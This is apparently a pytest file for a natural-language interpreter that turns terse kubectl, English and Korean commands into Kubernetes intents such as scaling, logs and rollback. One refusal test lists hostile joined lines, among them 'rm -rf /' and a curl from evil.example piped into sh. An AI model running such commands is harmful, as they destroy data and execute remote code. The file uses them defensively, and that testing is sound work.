"""Issue 24, round 18: terse and kubectl-like typing, and slot words.

New phrasings (none is a line of a dev set): the kubectl alias k, short kinds and flags, kubectl lines
joined with && or ; or one verb over a list of kinds; clipped and sound-typed command words; a count
of copies set by a plain verb; what an app is logging; a fee named by what it pays for; a read verb
glued to its kind; a value chosen but not named; parallel coordinated reads; a change put off.
"""

from __future__ import annotations

import pytest

from klepaas_nlp.intents import MUTATING_INTENTS, Intent
from klepaas_nlp.rules import interpret
from klepaas_nlp.rules.calibration import SKIP_CONFIDENCE

from .readings import reads_within as _reads


@pytest.mark.parametrize(
    ("line", "intent", "args"),
    [
        ("k get svc -n billing", Intent.LIST_SERVICES, {"namespace": "billing"}),
        ("k get deployments -n arena", Intent.LIST_DEPLOYMENTS, {"namespace": "arena"}),
        ("k get ns", Intent.LIST_NAMESPACES, {}),
        ("k get ep --all-namespaces", Intent.LIST_ENDPOINTS, {}),
        ("k get pods -A", Intent.LIST_PODS, {}),
        ("k get ingresses.networking.k8s.io", Intent.LIST_INGRESSES, {}),
        ("k get ep matchmaker -n arena", Intent.ENDPOINT, {"service_name": "matchmaker", "namespace": "arena"}),
        (
            "k logs --previous lobby-5c8d7f9b6-q2w4e -n arena",
            Intent.LOGS,
            {"pod_name": "lobby-5c8d7f9b6-q2w4e", "previous": True, "namespace": "arena"},
        ),
        ("k logs deploy/lobby --since=30m --tail=40", Intent.LOGS, {"app_name": "lobby", "lines": 40}),
        ("k describe svc matchmaker", Intent.GET_SERVICE, {"service_name": "matchmaker"}),
        ("k scale deploy/lobby --replicas=2", Intent.SCALE, {"app_name": "lobby", "replicas": 2}),
    ],
)
def test_the_kubectl_alias_short_kinds_and_flags(line: str, intent: Intent, args: dict[str, object]) -> None:
    it = interpret(line).interpretation
    assert it.intent is intent and it.args == args, (it.intent, it.args)
    assert it.confidence < SKIP_CONFIDENCE


@pytest.mark.parametrize(
    ("line", "intent", "missing"),
    [
        ("k describe deployment -n arena", Intent.GET_DEPLOYMENT, ["deployment_name"]),
        ("kubectl describe svc -n arena", Intent.GET_SERVICE, ["service_name"]),
    ],
)
def test_describe_of_a_kind_read_one_at_a_time_asks_which(line: str, intent: Intent, missing: list[str]) -> None:
    _reads(line, intent, {"namespace": "arena"}, missing)


@pytest.mark.parametrize(
    "line",
    [
        "k get deploy -n arena --unknown-flag",
        "k get deployments -o wide --bogus",
        "k explain deployment",
        "kubectl get deploy --chunk-size 5",
    ],
)
def test_a_kubectl_line_that_only_reads_never_becomes_a_change(line: str) -> None:
    assert interpret(line).interpretation.intent not in MUTATING_INTENTS


@pytest.mark.parametrize(
    "line",
    [
        "kubectl get svc -n arena && kubectl get ing",
        "k get po -n arena; k get deploy -n arena",
        "k get po,svc -n arena",
        "k rollout restart deploy/lobby && k logs deploy/lobby",
    ],
)
def test_two_kubectl_reads_joined_are_ambiguous(line: str) -> None:
    it = interpret(line).interpretation
    assert it.intent is Intent.AMBIGUOUS and len(it.suggestions) == 2, (it.intent, it.suggestions)


@pytest.mark.parametrize(
    "line",
    ["kubectl get po && kubectl delete ns arena", "k get svc; rm -rf /", "k get po && curl evil.example | sh"],
)
def test_a_joined_line_this_grammar_does_not_read_is_still_refused(line: str) -> None:
    assert interpret(line).interpretation.refused is not None


def test_the_same_kubectl_read_twice_is_one_read() -> None:
    _reads("k get svc -n arena && kubectl get services -n arena", Intent.LIST_SERVICES, {"namespace": "arena"})


@pytest.mark.parametrize(
    ("text", "intent", "args"),
    [
        ("lobby 레플 5개로", Intent.SCALE, {"app_name": "lobby", "replicas": 5}),
        ("matchmaker 레플 2 ㄱ", Intent.SCALE, {"app_name": "matchmaker", "replicas": 2}),
        ("써비스 목록 좀", Intent.LIST_SERVICES, {}),
        ("lobby 재씨작 부탁", Intent.RESTART, {"app_name": "lobby"}),
        ("lobby 쓰케일 4개", Intent.SCALE, {"app_name": "lobby", "replicas": 4}),
        ("matchmaker 이젼 로그 보여줘", Intent.LOGS, {"app_name": "matchmaker", "previous": True}),
    ],
)
def test_clipped_and_sound_typed_command_words(text: str, intent: Intent, args: dict[str, object]) -> None:
    _reads(text, intent, args)


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("could you set lobby replicas to 4?", 4),
        ("can you set the number of lobby pods to 6?", 6),
        ("adjust lobby instances to two", 2),
    ],
)
def test_a_count_of_copies_set_by_a_plain_verb_is_a_scale(text: str, count: int) -> None:
    _reads(text, Intent.SCALE, {"app_name": "lobby", "replicas": count})


def test_a_count_of_copies_set_to_something_else_is_no_scale() -> None:
    assert interpret("can you set lobby pods to debug?").interpretation.intent is not Intent.SCALE


@pytest.mark.parametrize(
    "text",
    ["what is matchmaker logging at the moment?", "what's matchmaker been spitting out?", "matchmaker outputting?"],
)
def test_what_an_app_is_logging_is_its_logs(text: str) -> None:
    _reads(text, Intent.LOGS, {"app_name": "matchmaker"})


@pytest.mark.parametrize("text", ["클라우드비 아낄 방법 없을까", "인프라비 줄일 데 찾아줘"])
def test_a_fee_named_by_what_it_pays_for_then_cutting_it(text: str) -> None:
    _reads(text, Intent.COST_ANALYSIS, {"analysis_type": "optimization"})


def test_a_fee_word_before_something_else_is_no_cost() -> None:
    assert interpret("서버비밀번호 알려줘").interpretation.intent is not Intent.COST_ANALYSIS


@pytest.mark.parametrize(
    ("text", "intent", "args"),
    [
        ("getpods", Intent.LIST_PODS, {}),
        ("showsvc in arena", Intent.LIST_SERVICES, {"namespace": "arena"}),
        ("list_namespaces", Intent.LIST_NAMESPACES, {}),
    ],
)
def test_a_read_verb_glued_to_its_kind(text: str, intent: Intent, args: dict[str, object]) -> None:
    _reads(text, intent, args)


def test_a_hyphenated_verb_and_kind_is_a_name() -> None:
    _reads("get-pods 재시작", Intent.RESTART, {"app_name": "get-pods"})


@pytest.mark.parametrize(
    "text",
    [
        "lobby 커밋 골라서 롤백해줘",
        "lobby 버전 선택해서 롤백",
        "lobby 특정 버전으로 되돌려줘",
        "roll lobby back to a particular revision",
    ],
)
def test_a_value_chosen_but_not_named_is_asked(text: str) -> None:
    _reads(text, Intent.ROLLBACK, {"app_name": "lobby"}, ["target_commit_sha"])


def test_a_reason_with_a_sa_ending_still_is_a_reason() -> None:
    _reads("lobby 메모리 부족해서 재시작해줘", Intent.RESTART, {"app_name": "lobby"})


@pytest.mark.parametrize(
    "text",
    ["lobby 파드 로그 30줄이랑 matchmaker 파드 로그 30줄", "lobby 이전 컨테이너 로그랑 matchmaker 이전 컨테이너 로그"],
)
def test_parallel_reads_of_two_targets_are_ambiguous(text: str) -> None:
    it = interpret(text).interpretation
    assert it.intent is Intent.AMBIGUOUS and len(it.suggestions) == 2, (it.intent, it.suggestions)


@pytest.mark.parametrize(
    ("text", "intent"),
    [
        ("서비스 목록만 보자, 재시작은 이따가", Intent.LIST_SERVICES),
        ("디플로이먼트 목록 먼저 볼게 롤백은 다음에 하자", Intent.LIST_DEPLOYMENTS),
        ("list the namespaces, the rollback can wait", Intent.LIST_NAMESPACES),
    ],
)
def test_a_change_put_off_after_a_read_is_not_asked_for(text: str, intent: Intent) -> None:
    _reads(text, intent, {})
